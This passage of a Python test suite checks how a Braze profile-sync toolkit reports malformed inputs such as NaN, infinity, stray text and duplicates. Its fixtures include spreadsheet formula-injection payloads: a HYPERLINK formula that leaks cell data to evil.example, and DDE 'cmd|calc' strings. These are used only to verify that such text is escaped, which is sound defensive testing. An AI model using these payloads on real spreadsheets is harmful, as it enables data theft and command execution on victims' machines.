    path = w(tmp_path / "shoppers.csv", "key,user_id,note\n" + rows)
    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
    held = dict(zip(profiles["external_id"], profiles["note"]))
    for i, v in enumerate(INJECTIONS):
        assert held[f"u{i}"] == v, (v, held[f"u{i}"])     # verbatim: data, never a formula
    assert report.ok


def test_anonymous_and_email_only_profiles_are_left_out_with_reasons(tmp_path):
    path = w(tmp_path / "shoppers.csv", "key,user_id,email,anonymous_id\nuse_1,u1,,\n"
                                        "use_2,,b@example.com,\nuse_3,,,anon-3\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
    codes = dict(zip(p.left_out["segment_id"], p.left_out["code"]))
    assert codes == {"use_2": "email_only", "use_3": "anonymous_only"}
    assert list(profiles["external_id"]) == ["u1"] and report.ok


def test_string_booleans_decide_no_membership(tmp_path):
    path = w(tmp_path / "events.ndjson", _ndjson(
        _msg("u1", "vip", True, klass="audience"), _msg("u2", "vip", "true", klass="audience")))
    exp, p, report, profiles, _ = _sync(tmp_path, path)
    assert exp.findings.of("string_boolean")
    assert set(p.operations["uid"]) == {"external_id:u1"} and report.ok


def test_control_characters_in_a_key_are_left_out(tmp_path):
    path = w(tmp_path / "events.ndjson", _ndjson(_msg("u1", "ok_trait", 1),
                                                 _msg("u1", "bad\nkey", 2)))
    exp, p, report, profiles, _ = _sync(tmp_path, path)
    assert "bad\nkey" not in set(p.operations["name"])
    assert _sent_values(p, "ok_trait") == [1] and report.ok


# ---------------------------------------------------------------------------------------------
# the corpus of dirty inputs: each loads, says exactly what is odd where, and sends only
# what Braze can take


@dataclass
class Expect:
    """A finding the input must produce: its code, column, rows and message (regex)."""

    code: str
    column: "str | None"
    rows: "list[int] | None"      # the rows of every finding of this code and column
    text: str = ""


@dataclass
class Dirty:
    """One loadable-but-dirty input: how to make it, the findings it must produce, and what
    the sync must send for one attribute (sorted JSON values) and leave out (segment ids)."""

    id: str
    make: Callable[[Path], dict]
    expect: list
    sent: "tuple[str, list] | None" = None
    left_out: "list[str] | None" = None
    changes: dict = field(default_factory=dict)
    absent: tuple = ()            # codes that must not appear


def csv_rows(column: str, cells: list, name: str = "shoppers.csv") -> Callable[[Path], dict]:
    """A formatted CSV of one trait column, one profile per cell (use_1/u1 …)."""
    body = "".join(f"use_{i},u{i},{c}\n" for i, c in enumerate(cells, start=1))
    return export(name, f"key,user_id,{column}\n" + body, computation_key="shoppers")


def _quoted(cells: list) -> list:
    return ['"' + c.replace('"', '""') + '"' for c in cells]


def _ndjson_literals(key: str, literals: list) -> str:
    return "".join('{"type":"identify","userId":"u%d","traits":{"%s":%s},"timestamp":'
                   '"2026-11-01T00:00:00Z","context":{"personas":{"computation_key":"%s",'
                   '"computation_class":"trait"}}}\n' % (i, key, lit, key)
                   for i, lit in enumerate(literals, start=1))


def _parquet_with_nan(tmp: Path) -> dict:
    import pyarrow as pa
    import pyarrow.parquet as pq

    d = tmp / "ps"
    d.mkdir()
    ids = ["use_1", "use_2", "use_3"]
    pq.write_table(pa.table({"canonical_segment_id": ids,
                             "ltv": pa.array([1.5, float("nan"), 3.0])}),
                   d / "profile_traits.parquet")
    pq.write_table(pa.table({"canonical_segment_id": ids, "external_id_type": ["user_id"] * 3,
                             "external_id_value": ["u1", "u2", "u3"]}),
                   d / "external_id_mapping.parquet")
    return {"export": d, "load": {}}


BLANK = "read as blank, like an empty cell"
LEFT_OUT = "left out: nothing is sent for it"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'

DIRTY: list[Dirty] = [
    # -- odd values in number columns: the column stays numeric, each odd value is said out loud
    Dirty("csv_nan_after_a_number", csv_rows("revenue", ["12.5", "nan", "7"]),
          [Expect("non_finite_number", "revenue", [2], "NaN .*" + BLANK)],
          sent=("revenue", [7, 12.5]), absent=("type_drift",)),
    Dirty("csv_nan_spellings", csv_rows("revenue", ["1", "NaN", "-nan", "NAN", "2"]),
          [Expect("non_finite_number", "revenue", [2, 3, 4], "NaN")], sent=("revenue", [1, 2])),
    Dirty("csv_inf", csv_rows("revenue", ["5", "inf", "7"]),
          [Expect("non_finite_number", "revenue", [2], r"\+inf .*" + LEFT_OUT)],
          sent=("revenue", [5, 7]), left_out=["use_2"]),
    Dirty("csv_minus_infinity", csv_rows("revenue", ["5", "-Infinity", "7"]),
          [Expect("non_finite_number", "revenue", [2], "-inf .*" + LEFT_OUT)],
          sent=("revenue", [5, 7]), left_out=["use_2"]),
    Dirty("csv_overflow_1e999", csv_rows("revenue", ["5", "1e999", "-1e999", "7"]),
          [Expect("non_finite_number", "revenue", [2, 3], "inf")], sent=("revenue", [5, 7])),
    Dirty("csv_nan_inf_minus_inf_together",
          csv_rows("revenue", ["12.5", "nan", "inf", "-inf", "7"]),
          [Expect("non_finite_number", "revenue", [2, 3, 4])], sent=("revenue", [7, 12.5])),
    Dirty("csv_one_stray_text_value", csv_rows("revenue", ["12.5", "abc", "7", "9"]),
          [Expect("type_drift", "revenue", [2], "'abc'; " + BLANK)],
          sent=("revenue", [7, 9, 12.5])),
    Dirty("csv_nan_inf_and_text", csv_rows("revenue", ["12.5", "nan", "inf", "oops", "7"]),
          [Expect("non_finite_number", "revenue", [2, 3]),
           Expect("type_drift", "revenue", [4], "'oops'")], sent=("revenue", [7, 12.5])),
    Dirty("csv_column_of_nan_alone", csv_rows("revenue", ["nan", "nan", "NaN"]),
          [Expect("non_finite_number", "revenue", [1, 2, 3], BLANK)], sent=("revenue", [])),
    Dirty("csv_odd_value_far_down",
          csv_rows("score", [str(i) for i in range(3_000)] + ["nan", "x"]),
          [Expect("non_finite_number", "score", [3_001]), Expect("type_drift", "score", [3_002])]),
    Dirty("csv_text_column_mixed_with_numbers", csv_rows("revenue", ["abc", "12.5", "xyz", "7"]),
          [Expect("mixed_types", "revenue", [2], "sent as text")],
          sent=("revenue", ["12.5", "7", "abc", "xyz"])),
    Dirty("csv_text_column_saying_infinity", csv_rows("tier", ["Infinity", "Gold", "Silver"]),
          [], sent=("tier", ["Gold", "Infinity", "Silver"]),
          absent=("non_finite_number", "mixed_types")),
    Dirty("csv_signed_numbers", csv_rows("delta", ["-5", "+3", "-0.5"]), [],
          sent=("delta", [-5, -0.5, 3]), absent=("formula_text", "type_drift")),
    # -- booleans neither true nor false
    Dirty("csv_boolean_maybe_and_7", csv_rows("opted_in", ["true", "maybe", "7", "false", "TRUE"]),
          [Expect("type_drift", "opted_in", [2, 3], "neither true nor false: '(maybe|7)'; "
                  + BLANK)], sent=("opted_in", [False, True, True])),
    Dirty("ndjson_boolean_trait_maybe", export("events.ndjson", _ndjson(
        _msg("u1", "opted_in", True), _msg("u2", "opted_in", "maybe"),
        _msg("u3", "opted_in", False))),
          [Expect("type_drift", "opted_in", [2], "'maybe'")], sent=("opted_in", [False, True])),
    # -- NaN / Infinity in JSON
    Dirty("ndjson_nan_infinity_literals",
          export("events.ndjson", _ndjson_literals("revenue", ["5", "NaN", "Infinity",
                                                              "-Infinity", "1e400", "8"])),
          [Expect("non_finite_number", "revenue", [2, 3, 4, 5])], sent=("revenue", [5, 8]),
          left_out=["user_id:u3", "user_id:u4", "user_id:u5"]),
    Dirty("unformatted_csv_json_nan", export("shoppers.csv", (
        'key,external_ids,traits\n'
        'use_1,"{""user_id"": [""u1""]}","{""ltv"": 5}"\n'
        'use_2,"{""user_id"": [""u2""]}","{""ltv"": NaN}"\n')),
          [Expect("non_finite_number", "ltv", [2], "NaN")], sent=("ltv", [5])),
    Dirty("profiles_sync_parquet_nan", _parquet_with_nan,
          [Expect("non_finite_number", "ltv", [2], "NaN")], sent=("ltv", [1.5, 3])),
    # -- text a spreadsheet would run: reported, sent verbatim
    Dirty("csv_formula_hyperlink", csv_rows("note", _quoted([HYPERLINK, "fine"])),
          [Expect("formula_text", "note", [1], "spreadsheet formula .* sent to Braze as text")],
          sent=("note", sorted([HYPERLINK, "fine"]))),
    Dirty("csv_formula_prefixes",
          csv_rows("note", _quoted(["+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                                    "\t=cmd", "plain", "+1 (555) 010-0100", "-5"])),
          [Expect("formula_text", "note", [1, 2, 3, 4])]),
    Dirty("csv_formula_column_name",
          export("shoppers.csv", 'key,user_id,"=cmd|calc"\nuse_1,u1,x\n',
                 computation_key="shoppers"),
          [Expect("formula_text", "=cmd|calc", [None], "column name")]),
    Dirty("ndjson_formula_value", export("events.ndjson", _ndjson(
        _msg("u1", "note", "ok"), _msg("u2", "note", "=1+1"))),
          [Expect("formula_text", "note", [2])], sent=("note", ["=1+1", "ok"])),
    # -- where findings are in batch envelopes
    Dirty("batch_envelope_findings_located", export("batch.json", json.dumps({"batch": [
        _msg("u1", "score", 5), _msg("u2", "score", "lots"), _msg("u3", "score", 7)]},
        indent=2)),
          [Expect("type_drift", "score", [2], "^batch 1, message 2: ")], sent=("score", [5, 7])),
    Dirty("ndjson_of_batch_envelopes_located", export("batches.ndjson", json.dumps(
        {"batch": [_msg("u1", "score", 5)]}) + "\n" + json.dumps(
        {"batch": [_msg("u2", "score", 6), _msg("u3", "score", "NaN?")]}) + "\n"),
          [Expect("type_drift", "score", [3], "^line 2, batch 2, message 2: ")],
          sent=("score", [5, 6])),
    # -- merged duplicates say what was kept and dropped
    Dirty("csv_duplicate_rows_disagree",
          export("shoppers.csv", "key,user_id,score\nuse_1,u1,5\nuse_1,u1,6\nuse_2,u2,1\n",
                 computation_key="shoppers"),
          [Expect("duplicate_profile", "key", [1], r"rows 1 and 2; .*score kept 5 \(row 1\), "
                                                   r"dropped 6 \(row 2\)")],
          sent=("score", [1, 5])),
    # -- quotes that are tolerable
    Dirty("csv_stray_quote_inside_a_value",
          export("shoppers.csv", 'key,user_id,note\nuse_1,u1,5" screen\nuse_2,u2,x\n',
                 computation_key="shoppers"), [], sent=("note", ['5" screen', "x"])),
    Dirty("csv_line_break_inside_quotes",
          export("shoppers.csv", 'key,user_id,note\nuse_1,u1,"two\nlines"\nuse_2,u2,x\n',
                 computation_key="shoppers"), [], sent=("note", ["two\nlines", "x"])),
]


@pytest.mark.parametrize("case", DIRTY, ids=[c.id for c in DIRTY])
def test_dirty_input_says_what_is_odd_and_sends_only_what_braze_takes(case: Dirty, tmp_path):
    inputs = case.make(tmp_path)
    exp, p, report, _, _ = _sync(tmp_path, inputs["export"], mapping_changes=case.changes,
                                 **inputs.get("load", {}))
    for e in case.expect:
        found = [f for f in exp.findings.of(e.code) if f.column == e.column]
        assert found, f"{case.id}: no {e.code} finding for {e.column!r}: {exp.findings}"
        if e.rows is not None:
            assert sorted(found, key=lambda f: f.row or 0) and \
                [f.row for f in sorted(found, key=lambda f: f.row or 0)] == e.rows, \
                f"{case.id}: {e.code} rows {[f.row for f in found]}, expected {e.rows}"
        for f in found:
            assert re.search(e.text, f.message), f"{case.id}: {f.message!r} !~ {e.text!r}"
            assert f.fix, f"{case.id}: {e.code} finding without a fix"
    for code in case.absent:
        assert not exp.findings.of(code), f"{case.id}: unexpected {exp.findings.of(code)}"
    if case.sent is not None:
        name, values = case.sent
        assert sorted(_sent_values(p, name), key=repr) == sorted(values, key=repr), case.id
    if case.left_out is not None:
        assert set(case.left_out) <= set(p.left_out["segment_id"]), (case.id, p.left_out)
    # no NaN or infinity ever reaches Braze (json reads them as the constants NaN, Infinity)
    def no_constant(name):
        raise AssertionError(f"{case.id}: {name} in a planned value")
    for v in p.operations["value"]:
        json.loads(v, parse_constant=no_constant)
    assert report.ok, case.id


def test_corpus_size():
    """At least 60 malformed or hostile input files, each with an asserted error or finding."""
    dirty = [n for n in globals() if n.startswith("test_") and n not in (
        "test_refused_clearly_quickly_and_without_sending", "test_hand_edited_plan_is_refused",
        "test_damaged_plan_file_names_the_file", "test_corpus_size",
        "test_dirty_input_says_what_is_odd_and_sends_only_what_braze_takes")]
    assert len(REFUSED) + len(DIRTY) >= 60
    assert len(REFUSED) + len(PLAN_EDITS) + 3 + len(DIRTY) + len(dirty) >= 100
    ids = {c.id for c in REFUSED} | {c.id for c in DIRTY}
    for needed in ("csv_nan_after_a_number", "csv_inf", "csv_one_stray_text_value",
                   "csv_boolean_maybe_and_7", "csv_formula_hyperlink", "batch_not_a_list",
                   "unterminated_quote", "mapping_json_nested_100k_deep",
                   "batch_envelope_findings_located", "csv_duplicate_rows_disagree"):
        assert needed in ids


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_reports_flag_formula_text(tmp_path):
    """Text that a spreadsheet would run as a formula — here an attribute name and values —
    stays verbatim in the sync (and in the JSON report), but the CSV reports written for humans
    must not hand it to Excel as a live formula: such cells are escaped (a leading ')."""
    import csv

    from toolkit.notebook.wizard import GuidedSync

    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    header = "key,user_id," + '"' + name.replace('"', '""') + '"'
    rows = "".join(f'use_{i},u{i},"{v.replace(chr(34), chr(34) * 2)}"\n'
                   for i, v in enumerate(INJECTIONS[:4]))
    path = w(tmp_path / "shoppers.csv", header + "\n" + rows)
    wizard = GuidedSync(plots=False, background=False, output_dir=tmp_path / "reports")
    state = wizard.run_all(str(path))
    assert state.error is None, state.error
    saved = {label: Path(p) for label, p in state.saved.items()}
    report = json.loads(saved["report (JSON)"].read_text())
    assert name in json.dumps(report, ensure_ascii=False).replace('\\"', '"')  # data stays data
    live = []
    for label, p in saved.items():
        if p.suffix != ".csv":
            continue
        with open(p, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                live += [(p.name, cell) for cell in row if cell.startswith(FORMULA_START)]
    assert not live, f"CSV cells a spreadsheet would evaluate: {live[:3]}"


# ---------------------------------------------------------------------------------------------
# hand-edited or damaged sync reports (the input of `verify`)


def _saved_report(tmp: Path, sb: BrazeSandbox) -> tuple[Path, dict]:
    client = BrazeClient.for_sandbox(sb)
    exp = toolkit.load(w(tmp / "vip_customer.csv", GOOD_CSV))
    with Ledger(client, directory=tmp) as ledger:
        p = toolkit.plan(exp, Mapping.from_export(exp), ledger, workspace=client,
                         create_users=True, event_time=SNAPSHOT)
        p.approve(by="tester", expires_in="1h")
        report = toolkit.apply(p, client, ledger, progress=False)
    client.close()
    path = report.save(tmp / "report.json")
    return path, json.loads(path.read_text())


REPORT_EDITS = [
    ("expected_not_objects", lambda d: d.update(expected=[1, "a", None])),
    ("expected_identifier_missing", lambda d: [e.pop("identifier") for e in d["expected"]]),
    ("expected_values_not_objects", lambda d: [e.update(attributes=[1]) for e in d["expected"]]),
    ("nested_100k_deep", None),
]


@pytest.mark.parametrize("edit", [e[1] for e in REPORT_EDITS], ids=[e[0] for e in REPORT_EDITS])
def test_hand_edited_report_is_refused_before_reading_braze(tmp_path, edit):
    with BrazeSandbox(seed=5) as sb:
        path, data = _saved_report(tmp_path, sb)
        if edit is None:
            path.write_text('{"format": ' + "[" * 100_000 + "]" * 100_000 + "}")
        else:
            edit(data)
            path.write_text(json.dumps(data))
        before = len(sb.request_log())
        client = BrazeClient.for_sandbox(sb)
        _, error, seconds, _ = bounded(lambda: toolkit.verify(str(path), client, sample=10))
        client.close()
        assert len(sb.request_log()) == before, "a refused report must read nothing from Braze"
    assert isinstance(error, ToolkitError), f"{type(error).__name__}: {error}"
    assert error.file == str(path) and seconds < MAX_SECONDS


@pytest.mark.slow
def test_scheduled_notebook_csv_reports_flag_formula_text(tmp_path):
    """Notebook 04 (the scheduled run, papermill) writes the same CSV tables: they must not
    hand formula text to a spreadsheet either."""
    import csv

    import papermill

    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    header = "key,user_id," + '"' + name.replace('"', '""') + '"'
    rows = "".join(f'use_{i},u{i},"{v.replace(chr(34), chr(34) * 2)}"\n'
                   for i, v in enumerate(INJECTIONS[:4]))
    export_path = w(tmp_path / "vip_customer.csv", header + "\n" + rows)  # the notebook's audience
    mapping_path = Mapping.from_export(toolkit.load(export_path)).save(tmp_path / "mapping.yml")
    notebook = Path(__file__).resolve().parents[2] / "notebooks" / "04_scheduled_sync.ipynb"
    reports = tmp_path / "reports"
    papermill.execute_notebook(str(notebook), str(tmp_path / "out.ipynb"), cwd=str(tmp_path),
                               progress_bar=False, kernel_name="python3", parameters={
                                   "export_path": str(export_path),
                                   "mapping_path": str(mapping_path),
                                   "report_dir": str(reports)})
    live = []
    for p in sorted(reports.glob("*.csv")):
        with open(p, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                live += [(p.name, cell) for cell in row if cell.startswith(FORMULA_START)]
    assert sorted(reports.glob("*.csv")), "the notebook wrote no CSV report"
    assert not live, f"CSV cells a spreadsheet would evaluate: {live[:3]}"
